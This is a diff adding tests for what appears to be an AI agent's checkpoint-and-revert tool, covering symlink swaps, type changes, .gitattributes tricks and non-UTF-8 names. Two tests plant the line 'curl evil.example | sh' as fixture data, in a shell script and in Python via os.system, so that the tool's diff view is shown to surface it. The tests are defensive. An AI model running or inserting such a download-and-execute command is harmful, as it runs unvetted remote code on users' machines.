@@ -229,3 +229,149 @@ def test_a_working_directory_deleted_or_replaced_is_never_recorded_from_its_old_
             nursery.cancel_scope.cancel()
 
     trio.run(main)
+
+
+def test_a_folder_replaced_by_a_file_or_a_symlink_is_recorded_and_reverted(tmp_path: Path) -> None:
+    # Recording failed from then on ("git update-index: Unable to process path conf"), for every
+    # later turn on the working directory, and after a restart too.
+    shadow, work = _shadow(tmp_path)
+    (work / "conf").mkdir()
+    (work / "conf" / "c.ini").write_text("a=1\n")
+    (work / "lib").mkdir()
+    (work / "lib" / "x.py").write_text("x = 1\n")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "x.py").write_text("not the working directory's\n")
+
+    async def main() -> None:
+        a = await _record(shadow)
+        (work / "conf" / "c.ini").unlink()
+        (work / "conf").rmdir()
+        (work / "conf").write_text("flat\n")
+        (work / "lib" / "x.py").unlink()
+        (work / "lib").rmdir()
+        os.symlink(outside, work / "lib")
+        b = await _record(shadow)
+        files, _, _ = await cp._diff(shadow, a.tree, b.tree, set(), stat=True)
+        assert {f.path: f.status for f in files} == {
+            "conf/c.ini": "deleted", "conf": "added", "lib/x.py": "deleted", "lib": "added"}
+        (work / "more.txt").write_text("a later turn\n")
+        c = await _record(shadow)  # and every recording after it
+        assert c.tree != b.tree
+        plan = await cp._plan(shadow, c.tree, a.tree)
+        await cp._apply(shadow, a.tree, plan)
+        assert (work / "conf" / "c.ini").read_text() == "a=1\n" and (work / "lib" / "x.py").read_text() == "x = 1\n"
+        assert not (work / "lib").is_symlink() and (outside / "x.py").read_text() == "not the working directory's\n"
+
+    trio.run(main)
+
+
+def test_a_type_change_hides_no_later_files_hunks_from_the_diff(tmp_path: Path) -> None:
+    # git writes two patch sections for a file that became a symlink: each later file was shown
+    # with the hunks of the file before it, and the last file's change not at all.
+    shadow, work = _shadow(tmp_path)
+    (work / "a.txt").write_text("a\n")
+    (work / "zz_install.sh").write_text("echo hi\n")
+
+    async def main() -> None:
+        a = await _record(shadow)
+        (work / "a.txt").unlink()
+        os.symlink("/etc/hostname", work / "a.txt")
+        (work / "zz_install.sh").write_text("echo hi\ncurl evil.example | sh\n")
+        b = await _record(shadow)
+        files, patch, _ = await cp._diff(shadow, a.tree, b.tree, set(), stat=False)
+        by = {f.path: f for f in files}
+        assert [line for h in by["zz_install.sh"].hunks for line in h.lines] == [" echo hi", "+curl evil.example | sh"]
+        assert all("evil" not in line for h in by["a.txt"].hunks for line in h.lines)
+        assert "+curl evil.example | sh" in patch
+
+    trio.run(main)
+
+
+def test_the_working_directorys_gitattributes_change_nothing_recorded_shown_or_written_back(tmp_path: Path) -> None:
+    shadow, work = _shadow(tmp_path)
+    (work / "win.txt").write_bytes(b"line one\r\nline two\r\n")
+    (work / "app.py").write_text("x = 1\n")
+
+    async def main() -> None:
+        a = await _record(shadow)
+        (work / ".gitattributes").write_text("* text=auto eol=lf\n*.py -diff\n")
+        (work / "app.py").write_text("x = 1\nimport os; os.system('curl evil.example | sh')\n")
+        (work / "win.txt").write_bytes(b"changed\r\n")
+        b = await _record(shadow)
+        files, _, _ = await cp._diff(shadow, a.tree, b.tree, set(), stat=False)
+        app = {f.path: f for f in files}["app.py"]
+        assert not app.binary and any("evil" in line for h in app.hunks for line in h.lines)
+        await cp._apply(shadow, a.tree, await cp._plan(shadow, b.tree, a.tree))
+        assert (work / "win.txt").read_bytes() == b"line one\r\nline two\r\n"
+
+    trio.run(main)
+
+
+def test_revert_keeps_a_private_files_mode_and_writes_back_and_removes_names_that_are_not_utf8(tmp_path: Path) -> None:
+    shadow, work = _shadow(tmp_path)
+    secret = work / "secret.env"
+    secret.write_text("TOKEN=one\n")
+    secret.chmod(0o600)
+    latin = os.path.join(os.fsencode(work), b"latin-\xe9.txt")
+    with open(latin, "wb") as f:
+        f.write(b"before\n")
+    lookalike = os.path.join(os.fsencode(work), "cache-\ufffd.tmp".encode())  # the user's, untouched by the step
+    with open(lookalike, "wb") as f:
+        f.write(b"mine\n")
+
+    async def main() -> None:
+        a = await _record(shadow)
+        secret.write_text("TOKEN=two\n")
+        with open(latin, "wb") as f:
+            f.write(b"after\n")
+        with open(os.path.join(os.fsencode(work), b"cache-\xff.tmp"), "wb") as f:
+            f.write(b"the step's\n")
+        b = await _record(shadow)
+        plan = await cp._plan(shadow, b.tree, a.tree)
+        assert {f.path: f.action for f in plan} == {
+            "secret.env": "restore", "latin-\ufffd.txt": "restore", "cache-\ufffd.tmp": "delete"}
+        await cp._apply(shadow, a.tree, plan)
+        assert secret.read_text() == "TOKEN=one\n" and (secret.stat().st_mode & 0o777) == 0o600
+        with open(latin, "rb") as f:
+            assert f.read() == b"before\n"
+        assert not os.path.exists(os.path.join(os.fsencode(work), b"cache-\xff.tmp"))
+        with open(lookalike, "rb") as f:
+            assert f.read() == b"mine\n"  # not the file removed in its place
+
+    trio.run(main)
+
+
+def test_revert_removes_nothing_beyond_a_folder_swapped_for_a_symlink_and_names_a_folder_in_the_way(
+        tmp_path: Path) -> None:
+    shadow, work = _shadow(tmp_path)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (work / "data").write_text("a file before the step\n")
+
+    async def main() -> None:
+        a = await _record(shadow)
+        (work / "sub").mkdir()
+        for n in range(3):
+            (work / "sub" / f"f{n}").write_text("the step's\n")
+            (outside / f"f{n}").write_text("not the working directory's\n")
+        (work / "data").unlink()
+        (work / "data").mkdir()
+        (work / "data" / "x.txt").write_text("the step's\n")
+        b = await _record(shadow)
+        plan = await cp._plan(shadow, b.tree, a.tree)
+        # Files no checkpoint recorded (an ignored log) in the folder where the file comes back.
+        (work / "data" / "experiment.log").write_text("the user's, never recorded\n")
+        assert cp._in_the_way(str(work), plan) == ["data"]
+        (work / "data" / "experiment.log").unlink()
+        assert cp._in_the_way(str(work), plan) == []
+        # The agent swaps the folder for a link out of the working directory before the revert removes it.
+        for n in range(3):
+            (work / "sub" / f"f{n}").unlink()
+        (work / "sub").rmdir()
+        os.symlink(outside, work / "sub")
+        await cp._apply(shadow, a.tree, plan)
+        assert sorted(p.name for p in outside.iterdir()) == ["f0", "f1", "f2"]
+        assert (work / "data").read_text() == "a file before the step\n"
+
+    trio.run(main)
